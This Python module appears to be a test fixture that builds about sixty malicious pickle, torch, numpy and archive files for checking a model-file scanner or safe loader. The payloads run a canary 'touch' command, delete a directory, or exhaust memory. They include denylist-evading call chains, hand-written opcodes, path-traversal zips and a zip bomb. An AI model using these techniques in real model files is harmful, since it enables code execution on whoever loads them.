"""Sixty files that would run a command, or eat the memory, of whoever unpickles them: PICKLES, name -> bytes.

A command, where one ran, has left a file: `canary`. What each does is known from reports on model files of unknown
origin: https://docs.python.org/3/library/pickle.html, https://pytorch.org/docs/stable/notes/serialization.html
"""

import builtins
import bz2
import cProfile
import functools
import gzip
import importlib
import io
import lzma
import operator
import os
import pdb
import pickle
import runpy
import shutil
import struct
import subprocess
import tarfile
import timeit
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np
import torch


class Call:
    """Unpickled, it calls the function."""

    def __init__(self, function: Callable, *arguments: Any) -> None:
        self.function, self.arguments = function, arguments

    def __reduce__(self) -> tuple:
        return self.function, self.arguments


class Built:
    """Unpickled, its state is built by a call."""

    def __init__(self, state: Any) -> None:
        self.state = state

    def __reduce__(self) -> tuple:
        return list, (), self.state


def pickles(canary: Path) -> dict[str, bytes]:
    """Name -> bytes of the sixty files."""
    shell = f"touch {canary}"
    bomb = Call(os.system, shell)
    plain = pickle.dumps(bomb)
    return {
        **{f"os.system, protocol {number}": pickle.dumps(bomb, number) for number in range(6)},
        **{
            f"eval, protocol {number}": pickle.dumps(Call(builtins.eval, python(canary)), number)
            for number in (0, 2, 4)
        },
        **{f"exec, protocol {number}": pickle.dumps(Call(builtins.exec, python(canary)), number) for number in (1, 3)},
        **{name: pickle.dumps(call) for name, call in calls(canary).items()},
        **opcodes(shell.encode()),
        **bombs(),
        **archives(plain),
        **torch_files(bomb),
        **arrays(bomb),
    }


def python(canary: Path) -> str:
    return f"open({str(canary)!r}, 'w').close()"


def calls(canary: Path) -> dict[str, Any]:
    """Ways to a command that a list of forbidden names may not know."""
    shell, code = f"touch {canary}", python(canary)
    module = Call(importlib.import_module, "os")
    chain = Call(builtins.getattr, module, "system")
    return {
        "subprocess.Popen": Call(subprocess.Popen, ["touch", str(canary)]),
        "subprocess.run": Call(subprocess.run, ["touch", str(canary)]),
        "subprocess.check_output": Call(subprocess.check_output, ["touch", str(canary)]),
        "subprocess.getoutput": Call(subprocess.getoutput, shell),
        "getattr chain": Call(operator.call, chain, shell),
        "import and getattr": Call(operator.call, Call(builtins.getattr, Call(__import__, "posix"), "system"), shell),
        "functools.partial": Call(operator.call, Call(functools.partial, os.system, shell)),
        "operator.methodcaller": Call(operator.call, Call(operator.methodcaller, "system", shell), module),
        "runpy": Call(runpy._run_code, code, {}),
        "timeit": Call(timeit.timeit, code, "pass"),
        "cProfile": Call(cProfile.run, code),
        "pdb": Call(pdb.run, code),
        "shutil.rmtree": Call(shutil.rmtree, str(canary.parent / "precious")),
        "a list that is mapped": Call(list, Call(map, os.system, [shell])),
        "state": Built(Call(os.system, shell)),
    } | {"compiled code": Call(builtins.exec, Call(builtins.compile, code, "<>", "exec"))}


def opcodes(shell: bytes) -> dict[str, bytes]:
    """Written by hand, as no pickler would."""
    return {
        "INST": b"(S'%s'\nios\nsystem\n." % shell,
        "OBJ": b"(cos\nsystem\nS'%s'\no." % shell,
        "GLOBAL and memo": b"cos\nsystem\np0\n0(S'%s'\ntp1\n0g0\ng1\nR." % shell,
        "STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c%c%s\x85R." % (len(shell), shell),
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n]S'%s'\na\x85\x81." % shell,
        "NEWOBJ_EX": b"\x80\x04csubprocess\nPopen\n]S'%s'\na\x85}\x92." % shell,
        "behind a thousand numbers": b"I1\n0" * 1000 + b"cos\nsystem\n(S'%s'\ntR." % shell,
        "persistent id": b"\x80\x02X\x02\0\0\0osQ.",
        "extension": b"\x80\x02\x82\x01.",
    }


def bombs() -> dict[str, bytes]:
    """No command, but memory: lists of lists, strings that claim their length, depth."""
    doubled = b"\x80\x02]q\0" + b"".join(b"]q%c(h%c" % (i, i - 1) + b"h%c" % (i - 1) * 9 + b"e" for i in range(1, 30))
    return {
        "memo bomb": doubled + b".",
        "string of 2^60 bytes": b"\x80\x04\x8d" + struct.pack("<Q", 2**60) + b"x.",
        "memo of 2^31": b"\x80\x02]r\xff\xff\xff\x7f.",
        "depth": b"\x80\x02" + b"(" * 200_000 + b"t" * 200_000 + b".",
        "bytearray of 2^40": b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b".",
    }


def archives(plain: bytes) -> dict[str, bytes]:
    """A pickle in what models come packed in."""
    once = zipped(("archive/data.pkl", plain), ("archive/version", b"3\n"))
    header = b'{"a":{"dtype":"U8","shape":[4],"data_offsets":[0,4]}}'
    return {
        "gzip": gzip.compress(plain),
        "bz2": bz2.compress(plain),
        "xz": lzma.compress(plain),
        "zlib": zlib.compress(plain),
        "zip": once,
        "zip in a zip": zipped(("archive/data.pkl", once)),
        "zip that climbs": zipped(("../../../../tmp/lookalike-canary", plain), ("archive/data.pkl", plain)),
        "zip bomb": zipped(("archive/data/0", bytes(200_000_000))),
        "zip with doubled entries": zipped(("archive/data.pkl", plain), ("archive/data.pkl", plain)),
        "tar": tarred(plain, "w"),
        "tar.gz": tarred(plain, "w:gz"),
        "behind a safetensors header": (2).to_bytes(8, "little") + b"{}" + plain,
        "zip behind safetensors": len(header).to_bytes(8, "little") + header + b"\0\0\0\0" + once,
        "scripted module": zipped(
            ("m/constants.pkl", plain),
            ("m/data.pkl", plain),
            ("m/code/__torch__.py", b"import os"),
            ("m/version", b"3"),
        ),
    }


def torch_files(bomb: Any) -> dict[str, bytes]:
    new, legacy, inner = io.BytesIO(), io.BytesIO(), io.BytesIO()
    torch.save({"weight": bomb}, new)
    torch.save({"weight": bomb}, legacy, _use_new_zipfile_serialization=False)
    torch.save(bomb, inner)
    rebuilt = Call(torch._utils._rebuild_tensor_v2, bomb, 0, (2**40,), (1,), False, {})
    return {
        "torch.save": new.getvalue(),
        "torch.save, legacy": legacy.getvalue(),
        "rebuilt tensor": pickle.dumps(rebuilt),
        "storage from bytes": pickle.dumps(Call(torch.storage._load_from_bytes, inner.getvalue())),
    }


def arrays(bomb: Any) -> dict[str, bytes]:
    file = io.BytesIO()
    np.save(file, np.array([bomb], dtype=object), allow_pickle=True)
    several = io.BytesIO()
    np.savez(several, a=np.array([bomb], dtype=object))
    return {"numpy objects": file.getvalue(), "numpy archive": several.getvalue()}


def zipped(*entries: tuple[str, bytes]) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name), data, zipfile.ZIP_DEFLATED)
    return file.getvalue()


def tarred(plain: bytes, mode: Any) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode=mode) as archive:
        for name in ("storages", "tensors", "pickle"):
            entry = tarfile.TarInfo(name)
            entry.size = len(plain)
            archive.addfile(entry, io.BytesIO(plain))
    return file.getvalue()
